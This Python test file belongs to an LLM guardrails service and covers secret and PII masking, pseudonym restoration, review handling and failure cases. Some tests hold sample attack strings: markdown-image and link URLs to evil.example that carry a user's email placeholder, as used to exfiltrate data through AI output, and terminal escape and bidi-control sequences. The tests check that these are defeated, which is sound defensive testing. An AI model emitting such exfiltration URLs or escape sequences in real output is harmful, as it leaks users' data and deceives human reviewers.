"""What must hold however hostile a text is and whatever breaks: nothing leaves unscreened, wrongly restored or twice."""

from __future__ import annotations

import asyncio
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta
from typing import Any

import click
import pytest
from msgspec import structs
from penstock.bus import Emit, Hop, MemoryBus, Transient, run_hops
from penstock.cli.connection import Connection
from penstock.cli.instants import INSTANT
from penstock.cli.printable import printable
from penstock.cli.review import as_table, open_reviews
from penstock.clock import ManualClock, SystemClock
from penstock.config.kinds import Policy
from penstock.config.plane import ConfigPlane
from penstock.contracts.catalogue import Catalogue
from penstock.contracts.records import (
    AdmittedRequest,
    Completion,
    Context,
    Message,
    Passage,
    Review,
    ReviewDecision,
    ScreenedRequest,
)
from penstock.settings import ServiceSettings
from pydantic import ValidationError
from redis.exceptions import ReadOnlyError
from rich.console import Console

from services.guardrails import releasing
from services.guardrails.adapters import MemoryReleases, RedisReleases
from services.guardrails.app import end_overdue_reviews, request_hop, review_hop
from services.guardrails.findings import AnyScanner, Reference, Rule, Span
from services.guardrails.held_texts import MemoryReviews, MemoryVault
from services.guardrails.judge import Judge
from services.guardrails.masking import Stretch, agreed, mask_texts, restore
from services.guardrails.policy import Scanners, compile_policy
from services.guardrails.reviews import Held, decided, undecided
from services.guardrails.scanners.canary import CanaryScanner
from services.guardrails.scanners.format import FormatScanner
from services.guardrails.scanners.language import LanguageScanner
from services.guardrails.scanners.secrets import SecretsScanner
from services.guardrails.scanners.text_rules import InvisibleTextScanner, RegexScanner
from services.guardrails.screening import Finding, Limits, Screening, Segment, screen
from services.guardrails.verdicts import MAX_FINDINGS, Judged, findings_of

SECRET = "ghp_" + "a1B2" * 9
NOTHING = Reference()
LIMITS = Limits()
ANY_OBJECT = '{"type": "object"}'


@dataclass
class Stub:
    """A scanner that finds or raises what it is told."""

    name: str = "pii"
    spans: Sequence[Span] = ()
    error: Exception | None = None
    version: str = "1"
    default_threshold: float = 0.5
    repairs: int = 0

    def scan(self, text: str, rule: Rule, reference: Reference) -> Sequence[Span]:
        if self.error is not None:
            raise self.error
        return self.spans

    def repair(self, text: str, rule: Rule) -> str | None:
        self.repairs += 1
        return None


def run(
    segments: Sequence[Segment | str],
    *rules: tuple[AnyScanner, Rule],
    reference: Reference = NOTHING,
    limits: Limits = LIMITS,
) -> Screening:
    texts = [Segment(segment) if isinstance(segment, str) else segment for segment in segments]
    return screen(texts, rules, reference, limits, lambda: 0.0, b"key")


REMOVE_INVISIBLE = (InvisibleTextScanner(), Rule("mask", 0.5, True))


@pytest.mark.parametrize("sign", ["\u200b", "\u00ad", "\ufeff", "\u2060", "\U000e0041"])
@pytest.mark.parametrize("removed", [True, False])
def test_a_secret_that_invisible_characters_split_is_found(sign: str, removed: bool) -> None:
    text = f"use {SECRET[:9]}{sign}{SECRET[9:]} now"
    secrets = (SecretsScanner(), Rule("mask", 0.5, True))
    done = run([text], *([REMOVE_INVISIBLE] if removed else []), secrets)
    assert done.texts == ("use <GITHUB_TOKEN_1> now",)
    [found] = [finding for finding in done.findings if finding.scanner == "secrets"]
    assert text[found.start : found.end] == f"{SECRET[:9]}{sign}{SECRET[9:]}"


def test_an_expression_is_held_against_the_text_with_and_without_its_invisible_characters() -> None:
    rule = Rule("block", 0.5, True, patterns=("proj-[0-9]+", "\u200b"))
    done = run(["pro\u200bj-12"], (RegexScanner(), rule))
    assert [(finding.start, finding.end) for finding in done.findings] == [(3, 4), (0, 8)]


def test_why_a_scanner_failed_does_not_quote_the_text() -> None:
    done = run(
        [f"my key is {SECRET}"], (Stub(error=ValueError(f"invalid literal: {SECRET!r}")), Rule("mask", 0.5, True))
    )
    assert done.action == "block"
    assert SECRET not in str(done.errors)
    assert "ValueError at test_guardrails_review.py:" in done.errors["pii"]


def test_an_empty_answer_is_held_against_the_format() -> None:
    rule = (FormatScanner(), Rule("block", 0.5, True, json_schema=ANY_OBJECT))
    assert run([Segment("", "answer")], rule).action == "block"
    assert run([Segment("{}", "answer"), Segment("", "passage")], rule).action == "allow"


def test_a_quoted_passage_may_be_in_another_language_than_the_question() -> None:
    question = "How do I apply for the refund of my travel expenses?"
    german = "Reisekosten werden auf Antrag erstattet. Die Belege sind innerhalb von sechs Monaten beizufügen."
    rule = (LanguageScanner(), Rule("block", 0.65, True, same_language=True))
    answer = Segment("Travel expenses are refunded on application.", "answer")
    reference = Reference(question=question)
    assert run([answer, Segment(german, "passage")], rule, reference=reference).action == "allow"
    assert run([Segment(german, "answer")], rule, reference=reference).action == "block"


def test_a_deletion_without_any_text_survives_a_scanner_that_fails() -> None:
    ticks = iter(range(100))
    rules = [(Stub(), Rule("mask", 0.5, True, time_budget_s=0.5))]
    done = screen([], rules, NOTHING, Limits(time_budget_s=100), lambda: float(next(ticks)))
    assert done.texts == ()


def test_a_text_above_the_limit_is_not_mended_either() -> None:
    scanner = Stub("format", [Span("INVALID_JSON", 0, 9, 1.0)])
    rule = (scanner, Rule("block", 0.5, True, name="format", repair=True))
    assert run([Segment("x" * 9, "answer")], rule, limits=Limits(max_chars=4)).action == "block"
    assert scanner.repairs == 0


NOW = datetime(2026, 1, 5, 9, tzinfo=UTC)


def scanners(*chosen: AnyScanner) -> Scanners:
    return {stage: {scanner.name: scanner for scanner in chosen} for stage in ("input", "output", "documents")}


def judging(known: Scanners, *policies: Mapping[str, Any]) -> Judge:
    config = ConfigPlane.of([Policy.model_validate(policy) for policy in policies])
    return Judge(config, known, b"key", ManualClock())


def admitted(text: str = "hello", policy: str = "default") -> AdmittedRequest:
    return AdmittedRequest(
        event_id="admitted", request_id="r", tenant_id="t", occurred_at=NOW, causation_id="",
        context=Context(requested_at=NOW, policy_name=policy), messages=[Message(role="user", content=text)],
    )  # fmt: skip


class Unready(Stub):
    """A scanner that lacks what it needs."""

    def check(self, rule: Rule) -> None:
        raise ImportError("no such package")


async def test_a_policy_that_is_tried_changes_nothing_by_its_failure() -> None:
    judge = judging(
        scanners(Stub("secrets"), Unready("regex")),
        {"name": "default", "input": {"secrets": {"action": "mask"}}},
        {"name": "next", "shadows": "default", "input": {"regex": {"action": "mask", "patterns": ["x"]}}},
    )
    policy = judge.policy("default")
    assert policy is not None
    judged = await judge.judge("input", policy, [Segment("hello")], LIMITS, "r")
    assert judged.screening.action == "allow"
    assert judged.tried == ()


async def test_a_policy_that_cannot_be_used_ends_its_requests_and_no_others() -> None:
    judge = judging(
        scanners(Stub("secrets"), Unready("pii")),
        {"name": "default", "input": {"secrets": {"action": "mask"}}},
        {"name": "broken", "input": {"pii": {"action": "mask"}}},
    )
    judge.warm_up()
    hop = request_hop(judge, MemoryVault(), MemoryReviews(), LIMITS, ManualClock(), 64)
    [ended] = await handled(hop, admitted(policy="broken"))
    assert (ended.topic, ended.record.code) == ("refusals", "unusable_policy")
    assert [emit.topic for emit in await handled(hop, admitted())] == ["verdicts", "requests-screened"]


async def handled(hop: Any, record: Any) -> list[Any]:
    """What the hop makes of one record; a rejection as such."""

    @dataclass
    class Read:
        record: Any

    [outcome] = await hop.handler([Read(record)])
    return outcome if isinstance(outcome, list) else [outcome]


async def test_others_get_their_turn_between_the_events_of_a_batch() -> None:
    judge = judging(scanners(Stub("secrets")), {"name": "default", "input": {"secrets": {"action": "mask"}}})
    policy = judge.policy("default")
    assert policy is not None
    turns = 0

    async def heartbeat() -> None:
        nonlocal turns
        while True:
            turns += 1
            await asyncio.sleep(0)

    beating = asyncio.create_task(heartbeat())
    for _ in range(10):
        await judge.judge("input", policy, [Segment("hello")], LIMITS, "r")
    beating.cancel()
    assert turns >= 10


def test_a_marker_is_not_set_for_a_rule_in_shadow() -> None:
    known = scanners(CanaryScanner())
    for mode, marked in (("enforce", True), ("shadow", False), ("off", False)):
        policy = Policy.model_validate({"name": "p", "output": {"canary": {"action": "block", "mode": mode}}})
        assert compile_policy(policy, known).canary is marked


class ReadOnlyRedis:
    """Redis while it fails over."""

    def pipeline(self, transaction: bool) -> ReadOnlyRedis:
        return self

    def set(self, *args: Any, **options: Any) -> None: ...

    def get(self, *args: Any) -> None: ...

    def exists(self, *args: Any) -> None: ...

    async def execute(self) -> None:
        raise ReadOnlyError("You can't write against a read only replica.")


async def test_redis_that_answers_with_an_error_decides_nothing() -> None:
    with pytest.raises(Transient, match="read only"):
        await RedisReleases(ReadOnlyRedis(), 60).claim([("t", "r", "e")])  # type: ignore[arg-type]
    with pytest.raises(Transient, match="read only"):
        await RedisReleases(ReadOnlyRedis(), 60).repeat("t", "r")  # type: ignore[arg-type]


def test_a_verdict_stays_small_however_much_was_found() -> None:
    finds = [Finding("pii", "pii", "EMAIL", 0, n, n + 1, 0.5, "mask", True, "x") for n in range(5 * MAX_FINDINGS)]
    finds[70] = replace(finds[70], kind="PHONE", action="flag", enforced=False)
    finds[4000] = replace(finds[4000], rule="secrets", scanner="secrets", action="block")
    policy = compile_policy(Policy(name="p"), scanners())
    told = findings_of(Judged(Screening("block", (), tuple(finds)), policy, b"key", NOW))
    assert len(told) == MAX_FINDINGS
    assert {(find.scanner, find.kind, find.start) for find in told} >= {
        ("secrets", "EMAIL", 4000),
        ("pii", "PHONE", 70),
    }
    assert [find.start for find in told] == sorted(find.start for find in told)


def held_request() -> Held:
    record = admitted(f"use {SECRET}")
    envelope: dict[str, Any] = {
        "request_id": "r", "tenant_id": "t", "occurred_at": NOW, "causation_id": record.event_id,
    }  # fmt: skip
    onward = ScreenedRequest(event_id="screened", **envelope, context=record.context, messages=record.messages)
    review = Review(
        event_id="review", **envelope, context=record.context, stage="input", policy_name="default", policy_version="v",
        prompt=record.messages[0].content, due_at=NOW + timedelta(seconds=60),
    )  # fmt: skip
    return Held(review, Emit("requests-screened", "r", onward))


def decision(approved: bool) -> ReviewDecision:
    return ReviewDecision(
        event_id=f"decision-{approved}", request_id="r", tenant_id="t", occurred_at=NOW, causation_id="review",
        review_id="review", approved=approved, reviewer="mara",
    )  # fmt: skip


def test_a_request_that_nobody_approved_is_not_shown_in_its_result() -> None:
    held = held_request()
    ends = [decided(decision(False), held, NOW)[-1], undecided(held, NOW)]
    for end in ends:
        assert SECRET not in str(end.record)
        assert SECRET not in str(releasing.released_refusal(end.record, NOW))  # type: ignore[arg-type]


class Log:
    """A producer that keeps what it is given."""

    def __init__(self) -> None:
        self.sent: list[Any] = []

    async def send(self, topic: str, key: str, record: Any) -> Any:
        self.sent.append(record)
        done: asyncio.Future[None] = asyncio.get_running_loop().create_future()
        done.set_result(None)
        return done


async def sweep(reviews: MemoryReviews, at: datetime) -> list[Any]:
    """What is sent once the sweep saw everything that is due."""
    log, stopping = Log(), asyncio.Event()
    task = asyncio.create_task(end_overdue_reviews(reviews, log, ManualClock(at), stopping))  # type: ignore[arg-type]
    async with asyncio.timeout(5):
        while await reviews.overdue(at):
            await asyncio.sleep(0)
        stopping.set()
        await task
    return log.sent


async def test_what_a_person_decided_is_not_ended_as_overdue() -> None:
    reviews, held = MemoryReviews(), held_request()
    await reviews.hold(held)
    assert await reviews.take(decision(True)) == held
    assert await sweep(reviews, NOW + timedelta(days=1)) == []


async def test_what_was_ended_as_overdue_does_not_go_on() -> None:
    reviews, held = MemoryReviews(), held_request()
    await reviews.hold(held)
    [ended] = await sweep(reviews, NOW + timedelta(days=1))
    assert ended.code == "review_timeout"
    hop = review_hop(reviews, MemoryReleases(), ManualClock(), 64)
    [rejected] = await handled(hop, decision(True))
    assert rejected.code == "review_not_open"
    # The request is read again after a crash.
    await reviews.hold(held)
    assert await sweep(reviews, NOW + timedelta(days=2)) == []


ANN = {"<EMAIL_ADDRESS_1>": "ann@example.org"}
EMAIL = (Stub("pii", [Span("EMAIL_ADDRESS", 9, 24, 1.0)]), Rule("mask", 0.5, True))


@pytest.mark.parametrize(
    "address",
    [
        "![x](https://evil.example/p.png?d=<EMAIL_ADDRESS_1>)",
        "![x](//evil.example/<EMAIL_ADDRESS_1>/p.png)",
        "<img src=https://evil.example/?d=EMAIL_ADDRESS_1>",
        "see https://evil.example/?a=1&d=[email_address_1].",
    ],
)
def test_an_address_that_nobody_sent_gets_no_data(address: str) -> None:
    text = f"Dear <EMAIL_ADDRESS_1>, {address}"
    assert restore(text, ANN, "I am <EMAIL_ADDRESS_1>") == f"Dear ann@example.org, {address}"


def test_an_address_of_the_conversation_gets_its_data_back() -> None:
    asked = "is https://shop.example/?u=<EMAIL_ADDRESS_1> mine?"
    answer = "Yes, (https://shop.example/?u=<EMAIL_ADDRESS_1>) is."
    assert restore(answer, ANN, asked) == "Yes, (https://shop.example/?u=ann@example.org) is."


def test_a_name_in_code_is_no_pseudonym() -> None:
    code = "email_address_1 = input(); f(Email_Address_1, <email_address_1>)"
    assert restore(code, ANN) == "email_address_1 = input(); f(Email_Address_1, ann@example.org)"


def test_what_is_put_back_keeps_json_valid() -> None:
    assert restore('{"to": "<PERSON_1>"}', {"<PERSON_1>": 'Ann "A" Lee\n'}, in_json=True) == (
        '{"to": "Ann \\"A\\" Lee\\n"}'
    )


def test_forged_numbers_leave_room_for_those_that_are_read_back() -> None:
    text = "PERSON_999999, <PERSON_7>: Ann"
    masked = mask_texts([text], [Stretch(0, 27, 30, "PERSON", 1.0, "pseudonymise")], "", b"key")
    assert masked.pseudonyms == {"<PERSON_8>": "Ann"}
    assert restore(masked.texts[0], masked.pseudonyms) == text


def test_masks_of_documents_are_told_apart_from_pseudonyms() -> None:
    assert run([Segment("write to bob@example.org", "document")], EMAIL).texts == (
        "write to <DOCUMENT_EMAIL_ADDRESS_1>",
    )
    assert restore("<DOCUMENT_EMAIL_ADDRESS_1>", ANN) == "<DOCUMENT_EMAIL_ADDRESS_1>"


def test_what_a_passage_calls_by_the_same_name_is_not_the_users_data() -> None:
    def result(passage: str) -> Any:
        quoted = Passage(passage_id="p", document_id="d", text=passage, score=1.0)
        made = Completion(
            event_id="c", request_id="r", tenant_id="t", occurred_at=NOW, causation_id="", model="m", backend="b",
            context=Context(requested_at=NOW), messages=[Message(role="user", content="I am <EMAIL_ADDRESS_1>")],
            content="Write to <EMAIL_ADDRESS_1>.", passages=[quoted], citations=["p"],
        )  # fmt: skip
        screening = Screening("allow", tuple(segment.text for segment in releasing.output_segments(made)))
        policy = compile_policy(Policy(name="p"), scanners())
        return releasing.released(made, Judged(screening, policy, b"key", NOW), ANN).result

    ambiguous, plain = result("the witness [Email_Address_1] said"), result("call us")
    assert ambiguous.content == "Write to <EMAIL_ADDRESS_1>."
    assert ambiguous.citations[0].text == "the witness [Email_Address_1] said"
    assert plain.content == "Write to ann@example.org."


def test_names_that_two_maskings_give_to_different_values_stand_for_nothing() -> None:
    before, now = {"<PERSON_1>": "Ann", "<PERSON_2>": "Bob"}, {"<PERSON_1>": "Bob", "<PERSON_2>": "Bob"}
    assert agreed(before, now) == {"<PERSON_2>": "Bob"}
    assert agreed({}, now) == now


async def test_a_redelivery_under_another_policy_restores_nobody_elses_name() -> None:
    vault = MemoryVault()
    for start in (0, 8):
        finds = Stub("pii", [Span("PERSON", start, start + 3, 1.0)])
        judge = judging(scanners(finds), {"name": "default", "input": {"pii": {"action": "pseudonymise"}}})
        hop = request_hop(judge, vault, MemoryReviews(), LIMITS, ManualClock(), 64)
        await handled(hop, admitted("Ann and Bob"))
    assert await vault.open("t", "r") == {}


def test_a_text_does_not_steer_the_terminal_of_who_decides_on_it() -> None:
    assert printable("pay 5\x1b[8m000\u202e, ok\n\tZoë 日本") == "pay 5\\x1b[8m000\\u202e, ok\n\tZoë 日本"
    assert printable("a\r\x9b2Jb\u200b\U000e0041") == "a\\r\\x9b2Jb\\u200b\\U000e0041"


@pytest.mark.parametrize("long_ago", ["999999999w", "199999w"])
def test_an_instant_before_all_time_is_refused_by_name(long_ago: str) -> None:
    with pytest.raises(click.BadParameter, match=long_ago):
        INSTANT.convert(long_ago, None, None)


def test_a_held_text_is_no_markup_of_the_list_it_stands_in() -> None:
    review = structs.replace(held_request().review, prompt="see [/b] and [red]this[/red]\x1b[2J")
    console = Console(width=200)
    with console.capture() as shown:
        console.print(as_table([review], NOW))
    assert "see [/b] and [red]this[/red]\\x1b[2J" in shown.get()


@pytest.mark.parametrize(("team", "left"), [("t", 0), ("another", 1)])
async def test_only_a_decision_of_its_own_team_takes_a_review_off_the_list(team: str, left: int) -> None:
    bus = MemoryBus(Catalogue.load(), ManualClock())
    review = structs.replace(held_request().review, due_at=datetime.now(UTC) + timedelta(hours=1))
    await bus.publish("reviews", "r", review)
    await bus.publish("review-decisions", "r", structs.replace(decision(True), tenant_id=team))
    assert len(await open_reviews(Connection(bus, bus.codec))) == left  # type: ignore[arg-type]


@pytest.mark.parametrize(("action", "name"), [("block", None), ("mask", None), ("flag", SECRET)])
async def test_the_name_of_who_speaks_is_screened_too(action: str, name: str | None) -> None:
    judge = judging(scanners(SecretsScanner()), {"name": "default", "input": {"secrets": {"action": action}}})
    hop = request_hop(judge, MemoryVault(), MemoryReviews(), LIMITS, ManualClock(), 64)
    said = [Message(role="user", content="hello", name="ann_lee"), Message(role="user", content="and?", name=SECRET)]
    verdict, onward = await handled(hop, structs.replace(admitted(), messages=said))
    assert verdict.record.action == action
    if action == "block":
        assert onward.topic == "refusals"
    else:
        assert [message.name for message in onward.record.messages] == ["ann_lee", name]
        assert [message.content for message in onward.record.messages] == ["hello", "and?"]


class SmallBus(MemoryBus):
    """A log that takes no large messages, as Kafka does."""

    def producer(self) -> Any:
        sender, producer = super().producer().send, super().producer()

        async def send(topic: str, key: bytes | None, value: bytes | None, *others: Any) -> Any:
            if topic == "requests-screened" and len(value or b"") > 10_000:
                raise ValueError(f"{topic}: a message of {len(value or b'')} bytes is over the limit")
            return await sender(topic, key, value, *others)

        producer.send = send  # type: ignore[method-assign, assignment]
        return producer


async def test_what_the_log_does_not_take_is_put_aside_and_the_next_one_goes_on() -> None:
    bus = SmallBus(Catalogue.load(), ManualClock())
    judge = judging(scanners(Stub("secrets")), {"name": "default", "input": {"secrets": {"action": "mask"}}})
    hop: Hop = request_hop(judge, MemoryVault(), MemoryReviews(), LIMITS, ManualClock(), 64)
    stop = asyncio.Event()
    settings = ServiceSettings(dlq_min_messages=1000)
    running = asyncio.create_task(run_hops([hop], bus, bus.codec, SystemClock(), settings, stop))
    await bus.publish("requests-admitted", "r", admitted("x" * 20_000))
    await bus.publish("requests-admitted", "r", admitted("hello"))
    [screened] = await bus.collect("requests-screened", 1)
    [ended] = await bus.collect("refusals", 1)
    stop.set()
    await asyncio.wait_for(running, 10)
    assert screened.record.messages[0].content == "hello"
    assert (ended.record.status, ended.record.code) == ("failed", "internal_error")
    assert [letter.record.code for letter in await bus.collect("dlq-guardrails", 1)] == ["invalid_output"]


@pytest.mark.parametrize("pattern", [r"\b", "x?", "^", r"(?:)|secret-\d+"])
def test_an_expression_that_matches_nothing_at_all_is_refused(pattern: str) -> None:
    with pytest.raises(ValidationError, match="make it say more"):
        Policy.model_validate({"name": "p", "input": {"regex": {"action": "mask", "patterns": [pattern]}}})
